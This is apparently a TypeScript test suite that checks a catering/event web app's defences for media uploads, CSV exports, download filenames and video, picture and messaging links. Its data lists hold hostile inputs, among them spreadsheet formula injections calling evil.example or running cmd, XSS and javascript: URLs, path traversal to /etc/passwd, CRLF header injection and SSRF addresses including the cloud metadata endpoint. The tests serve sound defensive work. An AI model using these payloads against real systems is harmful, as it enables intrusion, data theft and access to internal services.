import { existsSync, readdirSync } from 'node:fs';
import { request } from 'node:http';
import { type AddressInfo, createServer } from 'node:net';
import { join } from 'node:path';
import sharp from 'sharp';
import type { Task } from '#shared/tasks/task.contract';
import { eventually } from '../backend/orders/checkout.js';
import { jpeg } from '../support/media-files.js';
import { parseCsv } from '../support/parse-csv.js';
import { MANAGER, startApp, type TestApp } from '../support/test-app.js';
import { Actors, told } from './support/actors.js';
import { inTurns } from './support/client.js';
import { type HostileFile, hostileFiles, MARK } from './support/hostile-files.js';
import { type Random, seeded } from './support/seed.js';

let app: TestApp;
let actors: Actors;
let random: Random;
let eventId: string;
beforeAll(async () => {
  random = seeded('uploads-exports-links');
  app = await startApp();
  actors = await Actors.at(app.url, MANAGER);
  const day = { title: 'Onam', date: '2026-12-06' };
  eventId = told<{ event: { id: string } }>(await actors.send('manager', 'POST', '/api/diary-events/create', day)).event.id;
  told(await actors.send('manager', 'GET', `/api/todos/${eventId}`));
});
afterAll(async () => {
  actors.close();
  await app.stop();
});

/** faults I6, I7, I8, I9: a file is refused, or what is served of it can do nothing. */
describe('uploads', () => {
  const filesIn = (name: string): string[] => {
    const folder = join(app.database.dataDir, name);
    return existsSync(folder) ? readdirSync(folder) : [];
  };

  async function upload({ bytes, name = 'dish.jpg', type = 'image/jpeg' }: Omit<HostileFile, 'what'>, field = 'file') {
    const form = new FormData();
    form.append(field, new Blob([new Uint8Array(bytes)], { type }), name);
    const reply = await fetch(`${app.url}/api/media`, { method: 'POST', headers: actors.cookie('manager'), body: form });
    return { status: reply.status, body: (await reply.json()) as { url?: string; kind?: string } };
  }

  /** What is wrong with a file that was taken; null when it is harmless. */
  async function harmOf(url: string, kind: string): Promise<string | null> {
    if (!/^\/media\/[0-9a-f]{32}\.(webp|mp4|webm)$/.test(url)) return `is called ${url}`;
    const reply = await fetch(`${app.url}${url}`);
    const bytes = Buffer.from(await reply.arrayBuffer());
    const type = reply.headers.get('content-type') ?? '';
    if (reply.headers.get('x-content-type-options') !== 'nosniff') return 'may be sniffed';
    if (reply.headers.get('content-security-policy') !== "default-src 'none'; sandbox") return 'has no policy';
    if (kind === 'video') return /^video\/(mp4|webm)$/.test(type) ? null : `is served as ${type}`;
    if (type !== 'image/webp') return `is served as ${type}`;
    if (bytes.includes(MARK) || bytes.includes('SECRET-PLACE') || bytes.includes('<script')) return 'carries what was sent';
    const { format, exif, xmp, pages = 1 } = await sharp(bytes).metadata();
    return format === 'webp' && !exif && !xmp && pages === 1 ? null : 'carries metadata';
  }

  it('sixty hostile files: none is served as more than a bare picture or film', async () => {
    const files = await hostileFiles();
    expect(files.length).toBeGreaterThanOrEqual(60);
    const defaultPicture = await (await fetch(`${app.url}/images/event-default.jpg`)).text();
    const through: unknown[] = [];
    let taken = 0;
    await inTurns(files, 4, async ({ what, ...file }) => {
      const { status, body } = await upload(file);
      if (status === 200) taken += 1;
      const harm = status === 200 ? await harmOf(body.url ?? '', body.kind ?? '') : null;
      if (harm !== null || (status !== 200 && (status < 400 || status >= 500))) through.push({ what, status, harm });
    });
    expect(through).toEqual([]);
    // Whole pictures under odd names are drawn anew, so that some of them must have been taken.
    expect(taken).toBeGreaterThan(15);
    expect(filesIn('media')).toHaveLength(taken);
    expect(filesIn('media-incoming')).toEqual([]);
    expect(await (await fetch(`${app.url}/images/event-default.jpg`)).text()).toBe(defaultPicture);
  });

  it('a mark that stays would be seen (positive control)', async () => {
    const { body } = await upload({ bytes: await jpeg(20, 20) });
    const file = join(app.database.dataDir, body.url ?? '');
    await sharp(await jpeg(20, 20))
      .withExif({ IFD0: { Copyright: MARK } })
      .webp()
      .toFile(file);
    expect(await harmOf(body.url ?? '', 'image')).toBe('carries what was sent');
  });

  it('forms that are none, other fields and an upload that breaks off leave nothing', async () => {
    const before = filesIn('media').length;
    const photo = await jpeg(20, 20);
    expect((await upload({ bytes: photo }, 'file[0][name]')).status).toBe(400);
    expect((await upload({ bytes: photo }, '__proto__')).status).toBe(400);
    const cookie = actors.cookie('manager');
    for (const type of [
      'multipart/form-data',
      'multipart/form-data; boundary=',
      'multipart/form-data; boundary=a',
      'multipart/mixed; boundary=a',
    ]) {
      const reply = await fetch(`${app.url}/api/media`, {
        method: 'POST',
        headers: { ...cookie, 'content-type': type },
        body: `--a\r\n\r\n${MARK}`,
      });
      expect([type, Math.floor(reply.status / 100)]).toEqual([type, 4]);
    }
    const sent = request(`${app.url}/api/media`, {
      method: 'POST',
      headers: { ...cookie, 'content-type': 'multipart/form-data; boundary=a', 'content-length': '1000000' },
    });
    sent.on('error', () => undefined);
    sent.write(`--a\r\nContent-Disposition: form-data; name="file"; filename="a.jpg"\r\nContent-Type: image/jpeg\r\n\r\n`);
    sent.write(photo);
    await eventually(
      () => Promise.resolve(filesIn('media-incoming').length),
      (count) => count === 1,
    );
    sent.destroy();
    await eventually(
      () => Promise.resolve(filesIn('media-incoming').length),
      (count) => count === 0,
    );
    expect(filesIn('media')).toHaveLength(before);
  });
});

/** faults I4, I5: what a spreadsheet would run. */
describe('exports', () => {
  const STARTS = ['=', '+', '-', '@', '＝', '＋', '－', '＠', ' =', '\u200B=', '\u00A0+', '"=', "'=", '=', ';=', ',=', '\u3000@'];
  const ENDS = [
    'HYPERLINK("https://evil.example?x="&A1,"Click")',
    "cmd|'/C calc'!A0",
    'IMPORTXML("https://evil.example","//a")',
    '1+1',
    'SUM(1;1)*2',
    'DDE("cmd";"/C calc")',
    'അച്ചാർ',
    'a"b""c',
    'a\nb',
    'a,b;c\td',
    '\u202Egnp.exe',
  ];
  /** Written here a second time: the product's own rule does not judge itself. */
  const runs = (cell: string): boolean => /^[\s\u200B\uFEFF]*[=+\-@＝＋－＠]/.test(cell) || /^[\t\r\n]/.test(cell);

  it('five hundred hostile cells: none that a spreadsheet calculates, none that is lost', async () => {
    const hostile = (): string => `${random.pick(STARTS)}${random.pick(ENDS)} ${random.whole(1, 1e9)}`;
    const rows = Array.from({ length: 260 }, () => ({ task: hostile(), assignedTo: hostile() }));
    await inTurns(rows, 8, async (row) => {
      told(await actors.send('manager', 'POST', `/api/todos/${eventId}/tasks`, { ...row, estimatedDuration: '10' }));
    });
    const stored = told<{ data: Task[] }>(await actors.send('manager', 'GET', `/api/todos/${eventId}`)).data;
    const reply = await fetch(`${app.url}/api/reports/${eventId}.csv`, { headers: actors.cookie('manager') });
    const cells = parseCsv(Buffer.from(await reply.arrayBuffer()).toString()).flat();
    expect(cells.filter(runs)).toEqual([]);
    const wanted = stored.flatMap(({ task, assignedTo }) => [task, assignedTo ?? '']).filter((text) => / \d+$/.test(text));
    expect(wanted.length).toBeGreaterThanOrEqual(500);
    const shown = new Set(cells);
    expect(wanted.filter((text) => !shown.has(text) && !shown.has(`'${text}`))).toEqual([]);
    // A quote sign stands only where something would have run.
    expect(wanted.filter((text) => runs(text) === shown.has(text))).toEqual([]);
  });

  it('titles become harmless names of files', async () => {
    for (const title of [
      '../../etc/passwd',
      'a\r\nSet-Cookie: b=c',
      '"; filename=evil.exe; "',
      'x'.repeat(150),
      '\u202Egpj.exe',
      'സദ്യ %00 ;',
      'CON',
      '...',
    ]) {
      const made = await actors.send('manager', 'POST', '/api/diary-events/create', { title, date: '2026-12-06' });
      if (made.kind !== 'ok') continue;
      const { id } = told<{ event: { id: string } }>(made).event;
      const reply = await fetch(`${app.url}/api/reports/${id}.csv`, { headers: actors.cookie('manager') });
      const disposition = reply.headers.get('content-disposition') ?? '';
      expect(disposition).toMatch(/^attachment; filename="[^"\\/\r\n]{1,250}\.csv"; filename\*=UTF-8''[A-Za-z0-9!#$&+\-.^_`|~%]+\.csv$/);
      expect(decodeURIComponent(disposition.split("''")[1] ?? '')).not.toMatch(/[\\/\p{Cc}\u202E]/u);
      expect(reply.headers.get('set-cookie')).toBeNull();
    }
  });
});

const ID = 'dQw4w9WgXcQ';
/** faults I2: addresses that look like a video of YouTube. */
const NO_YOUTUBE = [
  `javascript:alert(1)//youtube.com/watch?v=${ID}`,
  `JaVaScRiPt://youtube.com/watch?v=${ID}%0aalert(1)`,
  `data:text/html,<script>alert(1)</script>//youtu.be/${ID}`,
  `vbscript:youtube.com/watch?v=${ID}`,
  `file:///youtube.com/watch?v=${ID}`,
  `blob:https://youtube.com/watch?v=${ID}`,
  `view-source:https://youtube.com/watch?v=${ID}`,
  `//youtube.com/watch?v=${ID}`,
  `https:youtube.com/watch?v=${ID}`,
  `https:///youtube.com/watch?v=${ID}`,
  `https:\\\\youtube.com\\watch?v=${ID}`,
  `https://youtube.com.evil.example/watch?v=${ID}`,
  `https://evil.example/youtube.com/watch?v=${ID}`,
  `https://evil.example/?u=https://youtube.com/watch?v=${ID}`,
  `https://evil.example#youtube.com/watch?v=${ID}`,
  `https://evilyoutube.com/watch?v=${ID}`,
  `https://youtube.com@evil.example/watch?v=${ID}`,
  `https://user:pass@youtube.com/watch?v=${ID}`,
  `https://youtube.com:8443/watch?v=${ID}`,
  `https://youtube.com%2eevil.example/watch?v=${ID}`,
  `https://youtube.com\u3002evil.example/watch?v=${ID}`,
  `https://yоutube.com/watch?v=${ID}`,
  `https://youtube.co/watch?v=${ID}`,
  `https://youtube.com./watch?v=${ID}`,
  `https://youtu.be.evil.example/${ID}`,
  `https://youtu.be@evil.example/${ID}`,
  `https://youtu.be//${ID}`,
  `https://youtube.com/redirect?q=https://evil.example&v=${ID}`,
  'https://youtube.com/watch?v=dQw4w9WgXc',
  'https://youtube.com/watch?v="onload="al',
  `https://youtube.com/watch?v=${ID}" onload="alert(1)`,
  `https://youtube.com/watch?v=${ID}'><script>`,
  `https://youtube.com/watch?v=${ID}\u0000`,
  `https://youtube.com/watch?v[]=${ID}`,
  `https://youtube.com/embed/../redirect?v=${ID}`,
  `https://youtube.com/embed/%2e%2e/${ID}`,
  `https://youtube.com/playlist?list=${ID}`,
  `https://127.0.0.1/watch?v=${ID}`,
  `https://[::1]/watch?v=${ID}`,
  ` \u202Ehttps://youtube.com/watch?v=${ID}`,
  `https://youtube.com/watch?v=${ID}`.padEnd(2_000, '&a=b'),
];
/** faults I3: addresses that no screen of the kitchen should load. */
const NO_VIDEO = [
  'javascript:alert(1)',
  'JAVASCRIPT:alert(1)//.mp4',
  'java\tscript:alert(1)',
  'data:video/mp4;base64,AAAA',
  'data:text/html,<script>alert(1)</script>',
  'blob:https://example.org/1',
  'file:///etc/passwd',
  'ftp://example.org/a.mp4',
  'http://example.org/a.mp4',
  '//example.org/a.mp4',
  '\\\\example.org\\a.mp4',
  'https:\\\\example.org\\a.mp4',
  'https:example.org/a.mp4',
  'https://localhost/a.mp4',
  'https://localhost./a.mp4',
  'https://kitchen.local/a.mp4',
  'https://printer.lan/a.mp4',
  'https://router/a.mp4',
  'https://127.0.0.1/a.mp4',
  'https://0x7f000001/a.mp4',
  'https://2130706433/a.mp4',
  'https://0177.0.0.1/a.mp4',
  'https://10.0.0.1/a.mp4',
  'https://192.168.1.1/a.mp4',
  'https://169.254.169.254/latest/meta-data',
  'https://[::1]/a.mp4',
  'https://[::ffff:127.0.0.1]/a.mp4',
  'https://user@example.org/a.mp4',
  'https://example.org:22/a.mp4',
  'https://example.org"onerror="alert(1)',
  'https://example.org/<script>',
  'https://example.org/a b.mp4',
  'https://metadata.internal/a.mp4',
  '/videos/../api/users',
  '/videos//evil.example/a.mp4',
  '/api/users',
  '/media/%2e%2e/x',
  'videos/clip.mp4',
  '?a',
  '#a',
  'https://',
];
/** What is no file beside the storefront's pages. */
const NO_PICTURE = [
  'javascript:alert(1)',
  'data:image/svg+xml,<svg>',
  '//evil.example/a.png',
  'https://evil.example/a.png',
  '../a.png',
  '..',
  'a\\b.png',
  '/media/x.webp',
  '/etc/passwd',
];

/** Ways to write this machine, its network and its neighbours, beside the port at which somebody listens. */
const NEIGHBOURS = [
  'https://127.0.0.1:PORT/send',
  'https://127.1:PORT/send',
  'https://0x7f000001:PORT/send',
  'https://2130706433:PORT/send',
  'https://0177.0.0.1:PORT/send',
  'https://0.0.0.0:PORT/send',
  'https://localhost:PORT/send',
  'https://[::1]:PORT/send',
  'https://[::]:PORT/send',
  'https://[::ffff:127.0.0.1]:PORT/send',
  'https://[::ffff:7f00:1]:PORT/send',
  'https://10.0.0.1/send',
  'https://172.16.0.1/send',
  'https://192.168.1.1/send',
  'https://100.64.0.1/send',
  'https://169.254.169.254/latest/meta-data',
  'https://[fe80::1]/send',
  'https://[fd00::1]/send',
  'http://127.0.0.1:PORT/send',
  'http://example.org/send',
  'https://user:pass@127.0.0.1:PORT/send',
  'https://{{to}}:PORT/send',
];

/** faults I2, I3: no address of others gets into a page. */
describe('links', () => {
  it('of a video in a review: refused, or rebuilt from the id alone', async () => {
    expect(NO_YOUTUBE.length).toBeGreaterThanOrEqual(40);
    for (const youtubeLink of NO_YOUTUBE) {
      const outcome = await actors.send('nobody', 'POST', `/api/reviews/${eventId}`, {
        reviewerName: 'Asha',
        comment: 'Tender',
        youtubeLink,
      });
      expect([youtubeLink, outcome.kind, outcome.kind === 'failed' && outcome.status]).toEqual([youtubeLink, 'failed', 400]);
    }
    const fine = { reviewerName: 'Asha', comment: 'Tender', youtubeLink: `HTTPS://M.YouTube.com/watch?list=x&v=${ID}&t=3` };
    told(await actors.send('nobody', 'POST', `/api/reviews/${eventId}`, fine));
    const { data } = told<{ data: { youtubeLink: string | null }[] }>(await actors.send('nobody', 'GET', `/api/reviews/${eventId}`));
    expect(data.map(({ youtubeLink }) => youtubeLink)).toEqual([`https://www.youtube.com/watch?v=${ID}`]);
  });

  it('of a video in a task: refused unless it is ours or on the open web', async () => {
    expect(NO_VIDEO.length).toBeGreaterThanOrEqual(40);
    const path = `/api/todos/${eventId}/tasks`;
    const task = { task: 'Look at the film', estimatedDuration: '10', hasVideo: true };
    for (const videoUrl of NO_VIDEO) {
      const outcome = await actors.send('cook', 'POST', path, { ...task, videoUrl });
      expect([videoUrl, outcome.kind, outcome.kind === 'failed' && outcome.status]).toEqual([videoUrl, 'failed', 400]);
    }
    for (const videoUrl of ['/videos/clip.mp4', 'https://example.org/a.mp4'])
      told(await actors.send('cook', 'POST', path, { ...task, videoUrl }));
  });

  it('of a picture or a step’s film: one of ours', async () => {
    for (const image of NO_PICTURE) {
      const sale = { title: `Sale ${image}`, date: 'Sunday', description: 'One pit', image };
      const outcome = await actors.send('manager', 'POST', '/api/events', sale);
      expect([image, outcome.kind, outcome.kind === 'failed' && [400, 422].includes(outcome.status)]).toEqual([image, 'failed', true]);
    }
    const timers = told<{ data: Record<string, unknown> }>(await actors.send('manager', 'GET', `/api/timers/${eventId}`)).data;
    const step = Object.keys(timers)[0] ?? '';
    for (const url of [...NO_VIDEO.slice(0, 12), 'https://example.org/a.mp4', `/media/${'0'.repeat(32)}.mp4`]) {
      const outcome = await actors.send('manager', 'PUT', `/api/sop/videos/${step}`, { url });
      expect([url, outcome.kind]).toEqual([url, 'failed']);
    }
  });

  it('of an SMS provider or a mail server: no server in our own network is called', async () => {
    let calls = 0;
    const neighbour = createServer((socket) => {
      calls += 1;
      socket.destroy();
    }).listen(0, '::');
    await new Promise((resolve) => neighbour.once('listening', resolve));
    const { port } = neighbour.address() as AddressInfo;
    const refused: string[] = [];
    const tryOut = async (channel: { name: string; settings: object }, to: string): Promise<string> => {
      const set = await actors.send('manager', 'PUT', '/api/message-channels', { ...channel, enabled: true, secret: 'a key' });
      if (set.kind !== 'ok') return set.kind === 'failed' ? String(set.status) : set.kind;
      const { test } = told<{ test: { outcome: string; reason: string } }>(
        await actors.send('manager', 'POST', '/api/message-channels/test', { name: channel.name, to }),
      );
      return test.reason;
    };
    for (const address of NEIGHBOURS) {
      const url = address.replace('PORT', String(port));
      const sms = { method: 'POST', contentType: 'json', headers: [], body: '{{to}} {{text}} {{key}} {{secret}}', url };
      refused.push(await tryOut({ name: 'sms', settings: sms }, '9847012345'));
      if (!address.startsWith('https://') || /[@{]/.test(address)) continue;
      const host = new URL(url).hostname;
      for (const security of ['tls', 'starttls', 'none']) {
        refused.push(
          await tryOut({ name: 'email', settings: { host, port, security, username: 'kuzhi', from: '' } }, 'owner@kuzhi.example'),
        );
      }
    }
    expect(refused.filter((reason) => !['400', 'badAddress'].includes(reason))).toEqual([]);
    expect(refused.filter((reason) => reason === 'badAddress').length).toBeGreaterThan(50);
    expect(calls).toBe(0);
    await new Promise((resolve) => neighbour.close(resolve));
  });
});
